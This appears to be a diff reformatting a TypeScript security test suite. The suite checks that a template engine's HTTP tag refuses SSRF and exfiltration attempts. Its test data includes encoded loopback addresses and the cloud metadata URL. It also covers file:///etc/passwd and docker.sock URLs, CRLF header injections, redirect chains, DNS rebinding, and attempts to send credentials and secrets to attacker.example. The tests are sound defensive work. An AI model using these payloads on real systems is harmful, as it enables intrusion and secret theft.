@@ -15,7 +15,12 @@ import { harnessHttp, type HttpHarnessState } from '../host/http.js';
 
 const PROBE = '{api endpoint=$u status_var=s http_code_var=c}[{$s}/{$c}]';
 
-function render(h: HarnessContext, u: string, extra: Record<string, unknown> = {}, template = PROBE): Promise<RenderAttempt> {
+function render(
+  h: HarnessContext,
+  u: string,
+  extra: Record<string, unknown> = {},
+  template = PROBE,
+): Promise<RenderAttempt> {
   return h.render(template, { vars: { u, ...extra } });
 }
 
@@ -25,7 +30,12 @@ function probeRefused(u: string, codes: string[]): Refusal {
 }
 
 /** Every URL of the corpus must be refused with one of `codes`. */
-function urlsRefused(id: string, title: string, urls: (s: HttpHarnessState) => string[], codes: string[]): SecurityCase {
+function urlsRefused(
+  id: string,
+  title: string,
+  urls: (s: HttpHarnessState) => string[],
+  codes: string[],
+): SecurityCase {
   return {
     id,
     category: 'NET',
@@ -34,9 +44,13 @@ function urlsRefused(id: string, title: string, urls: (s: HttpHarnessState) => s
       const s = harnessHttp();
       const before = s.seen.length;
       const list = urls(s);
-      const bad = await allRefused(h, list.map((u) => probeRefused(u, codes)));
+      const bad = await allRefused(
+        h,
+        list.map((u) => probeRefused(u, codes)),
+      );
       if (bad) return bad;
-      if (s.seen.length !== before) return { status: 'escaped', detail: 'a refused URL still reached the allowed server' };
+      if (s.seen.length !== before)
+        return { status: 'escaped', detail: 'a refused URL still reached the allowed server' };
       return { status: 'contained', detail: `${list.length} URLs refused with ${codes.join(' or ')}` };
     },
   };
@@ -74,9 +88,18 @@ export const NET: SecurityCase[] = [
     'NET-02',
     'encoded IPv4 forms',
     (s) =>
-      ['2130706433', '0x7f000001', '0177.0.0.1', '127.1', '127.0.0.1.', '\uff11\uff12\uff17.0.0.1', '0', '0x7f.1', '017700000001', '127.000.000.001'].map(
-        (h) => `http://${h}:${s.internal.port}/`,
-      ),
+      [
+        '2130706433',
+        '0x7f000001',
+        '0177.0.0.1',
+        '127.1',
+        '127.0.0.1.',
+        '\uff11\uff12\uff17.0.0.1',
+        '0',
+        '0x7f.1',
+        '017700000001',
+        '127.000.000.001',
+      ].map((h) => `http://${h}:${s.internal.port}/`),
     SSRF_OR_URL,
   ),
   urlsRefused(
@@ -121,13 +144,25 @@ export const NET: SecurityCase[] = [
       let refused = 0;
       for (let i = 0; i < 4; i++) {
         const a = await render(h, `http://rebind.attacker.example:${s.port}/who`, {}, t);
-        const o = judge(h, a, a.code === 'E_SSRF_DENIED' || a.output === 'public-server;', 'only the public answer was used');
+        const o = judge(
+          h,
+          a,
+          a.code === 'E_SSRF_DENIED' || a.output === 'public-server;',
+          'only the public answer was used',
+        );
         if (o.status !== 'contained') return o;
         if (a.code) refused++;
         else outputs.push(a.output ?? '');
       }
-      if (refused === 0) return { status: 'escaped', detail: 'the private answer of the rebinding name was never refused (resolver not consulted?)' };
-      return { status: 'contained', detail: `${refused} private answers refused, ${outputs.length} public answers served` };
+      if (refused === 0)
+        return {
+          status: 'escaped',
+          detail: 'the private answer of the rebinding name was never refused (resolver not consulted?)',
+        };
+      return {
+        status: 'contained',
+        detail: `${refused} private answers refused, ${outputs.length} public answers served`,
+      };
     },
   },
   {
@@ -136,8 +171,14 @@ export const NET: SecurityCase[] = [
     title: 'redirects to internal targets, long chains, credentials across origins',
     async run(h) {
       const s = harnessHttp();
-      const redirect = (to: string, status = 302): string => at(s, 'api.example.com', `/redirect?status=${status}&to=${encodeURIComponent(to)}`);
-      const post = (u: string, codes: string[]): Refusal => ({ template: '{api endpoint=$u method="POST" body="x" status_var=s}[{$s}]', codes, opts: { vars: { u } }, label: JSON.stringify(u) });
+      const redirect = (to: string, status = 302): string =>
+        at(s, 'api.example.com', `/redirect?status=${status}&to=${encodeURIComponent(to)}`);
+      const post = (u: string, codes: string[]): Refusal => ({
+        template: '{api endpoint=$u method="POST" body="x" status_var=s}[{$s}]',
+        codes,
+        opts: { vars: { u } },
+        label: JSON.stringify(u),
+      });
       const refused = [
         post(redirect('http://169.254.169.254/latest/meta-data/'), SSRF),
         post(redirect(`http://127.0.0.1:${s.internal.port}/`), SSRF),
@@ -151,26 +192,58 @@ export const NET: SecurityCase[] = [
       if (bad) return bad;
       // Authorization is dropped when a redirect leaves the origin.
       const before = s.seen.length;
-      const a = await h.render('{append var=hd value="Authorization: Bearer CROSS-ORIGIN-CRED"}{api endpoint=$u headers=$hd var=r}{$r}', {
-        vars: { u: redirect(at(s, 'attacker.example', '/echo')) },
-      });
-      const o = judge(h, a, a.output !== undefined && a.output.includes('"authorization":null'), 'credentials dropped on the cross-origin hop');
+      const a = await h.render(
+        '{append var=hd value="Authorization: Bearer CROSS-ORIGIN-CRED"}{api endpoint=$u headers=$hd var=r}{$r}',
+        {
+          vars: { u: redirect(at(s, 'attacker.example', '/echo')) },
+        },
+      );
+      const o = judge(
+        h,
+        a,
+        a.output !== undefined && a.output.includes('"authorization":null'),
+        'credentials dropped on the cross-origin hop',
+      );
       if (o.status !== 'contained') return o;
-      const leaked = s.seen.slice(before).some((r) => r.host.startsWith('attacker.example') && JSON.stringify(r.headers).includes('CROSS-ORIGIN-CRED'));
+      const leaked = s.seen
+        .slice(before)
+        .some((r) => r.host.startsWith('attacker.example') && JSON.stringify(r.headers).includes('CROSS-ORIGIN-CRED'));
       if (leaked) return { status: 'escaped', detail: 'the Authorization header reached the other origin' };
-      return { status: 'contained', detail: `${refused.length} redirect forms refused; Authorization dropped across origins` };
+      return {
+        status: 'contained',
+        detail: `${refused.length} redirect forms refused; Authorization dropped across origins`,
+      };
     },
   },
   urlsRefused(
     'NET-07',
     'schemes other than http/https',
-    () => ['file:///etc/passwd', 'data:text/plain,x', 'ftp://api.example.com/x', 'gopher://api.example.com:70/_x', 'ws://api.example.com/', 'wss://api.example.com/', 'blob:https://api.example.com/uuid', 'http+unix://%2Fvar%2Frun%2Fdocker.sock/info', 'unix:/var/run/docker.sock', 'javascript:alert(1)', 'dict://api.example.com:11211/'],
+    () => [
+      'file:///etc/passwd',
+      'data:text/plain,x',
+      'ftp://api.example.com/x',
+      'gopher://api.example.com:70/_x',
+      'ws://api.example.com/',
+      'wss://api.example.com/',
+      'blob:https://api.example.com/uuid',
+      'http+unix://%2Fvar%2Frun%2Fdocker.sock/info',
+      'unix:/var/run/docker.sock',
+      'javascript:alert(1)',
+      'dict://api.example.com:11211/',
+    ],
     SSRF_OR_URL,
   ),
   urlsRefused(
     'NET-08',
     'ports outside the allow-list',
-    () => ['http://api.example.com:25/', 'http://api.example.com:6379/', 'http://api.example.com:11211/', 'http://api.example.com:0/', 'https://api.example.com:22/', 'http://api.example.com:65535/'],
+    () => [
+      'http://api.example.com:25/',
+      'http://api.example.com:6379/',
+      'http://api.example.com:11211/',
+      'http://api.example.com:0/',
+      'https://api.example.com:22/',
+      'http://api.example.com:65535/',
+    ],
     SSRF_OR_URL,
   ),
   urlsRefused(
@@ -197,12 +270,33 @@ export const NET: SecurityCase[] = [
     async run(h) {
       const s = harnessHttp();
       const before = s.seen.length;
-      const forms = ['X: a\r\nHost: internal', 'X: a\nX-Other: b', 'Host: 169.254.169.254', 'Transfer-Encoding: chunked', 'Content-Length: 0', 'Bad Name: x', 'Connection: close', 'Proxy-Authorization: x', 'X-Nul: a\u0000b', ': no-name', 'no colon'];
+      const forms = [
+        'X: a\r\nHost: internal',
+        'X: a\nX-Other: b',
+        'Host: 169.254.169.254',
+        'Transfer-Encoding: chunked',
+        'Content-Length: 0',
+        'Bad Name: x',
+        'Connection: close',
+        'Proxy-Authorization: x',
+        'X-Nul: a\u0000b',
+        ': no-name',
+        'no colon',
+      ];
       const t = '{append var=hd value=$hv}{api endpoint=$u headers=$hd status_var=s}[{$s}]';
       const u = at(s, 'api.example.com', '/hello');
-      const bad = await allRefused(h, forms.map((hv) => ({ template: t, codes: ['E_BAD_HEADER'], opts: { vars: { u, hv } }, label: JSON.stringify(hv) })));
+      const bad = await allRefused(
+        h,
+        forms.map((hv) => ({
+          template: t,
+          codes: ['E_BAD_HEADER'],
+          opts: { vars: { u, hv } },
+          label: JSON.stringify(hv),
+        })),
+      );
       if (bad) return bad;
-      if (s.seen.length !== before) return { status: 'escaped', detail: 'a request with a refused header reached the server' };
+      if (s.seen.length !== before)
+        return { status: 'escaped', detail: 'a request with a refused header reached the server' };
       return { status: 'contained', detail: `${forms.length} header forms refused before any request` };
     },
   },
@@ -212,15 +306,33 @@ export const NET: SecurityCase[] = [
     title: 'response bombs: gzip bomb, endless body, 100 000 headers, a drip',
     async run(h) {
       const s = harnessHttp();
-      const limited = [at(s, 'api.example.com', '/bomb'), at(s, 'api.example.com', '/endless'), `http://api.example.com:${s.rawPort}/many-headers`];
-      const bad = await allRefused(h, limited.map((u) => probeRefused(u, ['E_HTTP_LIMIT'])));
+      const limited = [
+        at(s, 'api.example.com', '/bomb'),
+        at(s, 'api.example.com', '/endless'),
+        `http://api.example.com:${s.rawPort}/many-headers`,
+      ];
+      const bad = await allRefused(
+        h,
+        limited.map((u) => probeRefused(u, ['E_HTTP_LIMIT'])),
+      );
       if (bad) return bad;
       const t0 = performance.now();
-      const a = await h.render('{api endpoint=$u timeout=1 status_var=s http_code_var=c}[{$s}/{$c}]', { vars: { u: at(s, 'api.example.com', '/drip') } });
+      const a = await h.render('{api endpoint=$u timeout=1 status_var=s http_code_var=c}[{$s}/{$c}]', {
+        vars: { u: at(s, 'api.example.com', '/drip') },
+      });
       const ms = performance.now() - t0;
-      const o = judge(h, a, a.output === '[0/0]' && ms < 3000, 'a dripping body ends at the request deadline with status 0');
+      const o = judge(
+        h,
+        a,
+        a.output === '[0/0]' && ms < 3000,
+        'a dripping body ends at the request deadline with status 0',
+      );
       if (o.status !== 'contained') return o;
-      return { status: 'contained', detail: 'bomb, endless body and header flood refused with E_HTTP_LIMIT; drip cut at the 1 s timeout', figures: { dripMs: Math.round(ms) } };
+      return {
+        status: 'contained',
+        detail: 'bomb, endless body and header flood refused with E_HTTP_LIMIT; drip cut at the 1 s timeout',
+        figures: { dripMs: Math.round(ms) },
+      };
     },
   },
   {
@@ -230,10 +342,14 @@ export const NET: SecurityCase[] = [
     async run(h) {
       const s = harnessHttp();
       const before = s.seen.length;
-      const a = await h.render('{section name=i loop=1000}{api endpoint=$u status_var=s}{/section}done', { vars: { u: at(s, 'api.example.com', '/hello') } });
+      const a = await h.render('{section name=i loop=1000}{api endpoint=$u status_var=s}{/section}done', {
+        vars: { u: at(s, 'api.example.com', '/hello') },
+      });
       const sent = s.seen.length - before;
       const o = judge(h, a, a.code === 'E_QUOTA' && sent <= 100, 'refused with E_QUOTA after at most 100 requests');
-      return o.status === 'contained' ? { ...o, detail: `${o.detail} (${sent} sent)`, figures: { sent } } : { ...o, detail: `${o.detail} (${sent} sent)` };
+      return o.status === 'contained'
+        ? { ...o, detail: `${o.detail} (${sent} sent)`, figures: { sent } }
+        : { ...o, detail: `${o.detail} (${sent} sent)` };
     },
   },
   {
@@ -254,11 +370,24 @@ export const NET: SecurityCase[] = [
         const o = judge(h, x, x.output !== undefined, 'rendered');
         if (o.status !== 'contained') return o;
       }
-      if (a1.output !== a2.output) return { status: 'escaped', detail: `the cache did not serve tenant A's second call (${a1.output} / ${a2.output}): the case would prove nothing` };
-      if (b.output!.includes(':A:')) return { status: 'escaped', detail: "tenant B received tenant A's cached private response" };
-      if (c.output!.includes(':A:')) return { status: 'escaped', detail: 'a call without the private header received the cached response of a call with it' };
-      if (b2.output === a1.output) return { status: 'escaped', detail: "tenant B's identical request was answered from tenant A's cache entry" };
-      return { status: 'contained', detail: `A cached (${a1.output}); B got ${b.output}; A without the header got ${c.output}; B with the same header got ${b2.output}` };
+      if (a1.output !== a2.output)
+        return {
+          status: 'escaped',
+          detail: `the cache did not serve tenant A's second call (${a1.output} / ${a2.output}): the case would prove nothing`,
+        };
+      if (b.output!.includes(':A:'))
+        return { status: 'escaped', detail: "tenant B received tenant A's cached private response" };
+      if (c.output!.includes(':A:'))
+        return {
+          status: 'escaped',
+          detail: 'a call without the private header received the cached response of a call with it',
+        };
+      if (b2.output === a1.output)
+        return { status: 'escaped', detail: "tenant B's identical request was answered from tenant A's cache entry" };
+      return {
+        status: 'contained',
+        detail: `A cached (${a1.output}); B got ${b.output}; A without the header got ${c.output}; B with the same header got ${b2.output}`,
+      };
     },
   },
   {
@@ -275,17 +404,29 @@ export const NET: SecurityCase[] = [
         '{secret var=t key="API_TOKEN"}{append var=hd value="Authorization: Bearer `$t`"}{api endpoint=$u headers=$hd status_var=s}',
         '{secret var=t key="API_TOKEN"}{append var=hd value="X-Api-Key: `$t`"}{api endpoint=$u headers=$hd status_var=s}',
       ];
-      const expected = ['E_SECRET_DENIED', 'E_SECRET_DENIED', 'E_SECRET_NOT_FOUND', 'E_SECRET_DENIED', 'E_SECRET_DENIED'];
+      const expected = [
+        'E_SECRET_DENIED',
+        'E_SECRET_DENIED',
+        'E_SECRET_NOT_FOUND',
+        'E_SECRET_DENIED',
+        'E_SECRET_DENIED',
+      ];
       const u = at(s, 'attacker.example', '/echo');
-      const bad = await allRefused(h, forms.map((t, i) => ({ template: t, codes: [expected[i]!], opts: { vars: { u } } })));
+      const bad = await allRefused(
+        h,
+        forms.map((t, i) => ({ template: t, codes: [expected[i]!], opts: { vars: { u } } })),
+      );
       if (bad) return bad;
       if (s.seen.length !== before) return { status: 'escaped', detail: 'a refused request reached the server' };
       // Control: the same secret to a host it lists is substituted (so the refusals above are the rule, not a broken feature).
       const ok = await h.render(forms[3]!, { vars: { u: `https://api.example.com:${s.httpsPort}/hello` } });
       const own = (h.canaries as Canaries & { ownSecretValue?: string }).ownSecretValue;
-      const arrived = own !== undefined && s.seen.slice(before).some((r) => r.headers.authorization === `Bearer ${own}`);
+      const arrived =
+        own !== undefined && s.seen.slice(before).some((r) => r.headers.authorization === `Bearer ${own}`);
       const o = judge(h, ok, ok.output !== undefined && arrived, 'the secret reaches only the host it lists');
-      return o.status === 'contained' ? { ...o, detail: `${forms.length} forms refused; the listed host received the secret` } : o;
+      return o.status === 'contained'
+        ? { ...o, detail: `${forms.length} forms refused; the listed host received the secret` }
+        : o;
     },
   },
   {
@@ -303,21 +444,35 @@ export const NET: SecurityCase[] = [
       ];
       const answers: string[] = [];
       let slowest = 0;
-      const bad = await allRefused(h, targets.map((u) => probeRefused(u, SSRF)), (a, i) => {
-        answers.push(`${a.code} ${(a.message ?? '').split(targets[i]!).join('<url>')}`);
-        slowest = Math.max(slowest, a.ms);
-      });
+      const bad = await allRefused(
+        h,
+        targets.map((u) => probeRefused(u, SSRF)),
+        (a, i) => {
+          answers.push(`${a.code} ${(a.message ?? '').split(targets[i]!).join('<url>')}`);
+          slowest = Math.max(slowest, a.ms);
+        },
+      );
       if (bad) return bad;
       const literal = new Set(answers.slice(0, 3));
       const named = new Set(answers.slice(3));
-      if (literal.size !== 1 || named.size !== 1) return { status: 'escaped', detail: `answers differ by target: ${[...literal, ...named].join(' | ')}` };
+      if (literal.size !== 1 || named.size !== 1)
+        return { status: 'escaped', detail: `answers differ by target: ${[...literal, ...named].join(' | ')}` };
       const ports = [22, 80, 443, 6379];
       for (const p of ports) {
         const a = await render(h, `http://10.0.0.7:${p}/`);
-        const o = judge(h, a, a.code === 'E_SSRF_DENIED' && !a.output, 'refused with E_SSRF_DENIED, no status assigned');
+        const o = judge(
+          h,
+          a,
+          a.code === 'E_SSRF_DENIED' && !a.output,
+          'refused with E_SSRF_DENIED, no status assigned',
+        );
         if (o.status !== 'contained') return o;
       }
-      return { status: 'contained', detail: 'one error per URL shape, independent of whether anything listens', figures: { slowestMs: Math.round(slowest) } };
+      return {
+        status: 'contained',
+        detail: 'one error per URL shape, independent of whether anything listens',
+        figures: { slowestMs: Math.round(slowest) },
+      };
     },
   },
 ];
